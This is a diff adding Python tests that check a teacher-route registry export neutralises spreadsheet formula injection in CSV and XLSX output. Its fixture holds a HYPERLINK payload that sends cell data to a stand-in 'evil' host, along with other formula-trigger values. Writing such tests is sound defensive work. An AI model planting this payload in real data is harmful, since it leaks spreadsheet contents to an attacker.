@@ -9,6 +9,7 @@ import json
 import os
 import subprocess
 import sys
+import zipfile
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import date
@@ -207,3 +208,44 @@ def test_show_for_the_head_says_the_results_are_withheld(run: Invoke, card_route
     assert "не передаются в образовательную организацию" in shown
     assert card_route.diagnostic.deficit_codes[0] not in shown
     assert run("routes", "show", card_route.number, "--for", "завуч").exit_code == 2
+
+
+ATTACK = '=HYPERLINK("http://evil/?leak="&B2&C2,"x")'
+HOSTILE = {"school": ATTACK, "municipality": "+1+1", "last_name": "-2+3", "middle_name": "@SUM(A1)\x07"}
+
+
+@pytest.fixture
+def hostile_route(store: SqlRouteStore) -> Route:
+    """One route whose teacher's fields were typed by an attacker to run as spreadsheet formulas."""
+    teacher = replace(make_teacher(1), **HOSTILE, first_name="\tМария\r")
+    store.save_diagnostics([(teacher, make_diagnostic(1))])
+    build_routes(store, region="67", today=date(2026, 9, 25), actor=DEV)
+    [route] = store.list_routes()
+    return route
+
+
+@pytest.mark.usefixtures("hostile_route")
+def test_registry_csv_neutralises_formulas(run: Invoke) -> None:
+    result = run("routes", "export-registry", "--format", "csv", "-o", "r.csv")
+    text = result.files["r.csv"].decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://evil/?leak=""&B2&C2,""x"")"' in text  # quote-prefixed and quoted
+    [_, row] = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert row[1] == "'-2+3 \tМария\r @SUM(A1)\x07"
+    assert row[2:4] == ["'" + ATTACK, "'+1+1"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+@pytest.mark.usefixtures("hostile_route")
+def test_registry_xlsx_writes_formulas_as_text(run: Invoke) -> None:
+    result = run("routes", "export-registry", "--format", "xlsx", "-o", "r.xlsx")
+    raw = result.files["r.xlsx"]
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet
+    assert "<f " not in sheet
+    ws = openpyxl.load_workbook(io.BytesIO(raw)).active
+    assert ws is not None
+    school, municipality = ws["C2"], ws["D2"]
+    assert (school.value, school.data_type) == (ATTACK, "s")
+    assert (municipality.value, municipality.data_type) == ("+1+1", "s")
+    assert ws["B2"].value == "-2+3 \tМария\r @SUM(A1)\ufffd"  # XML cannot carry \x07: no crash
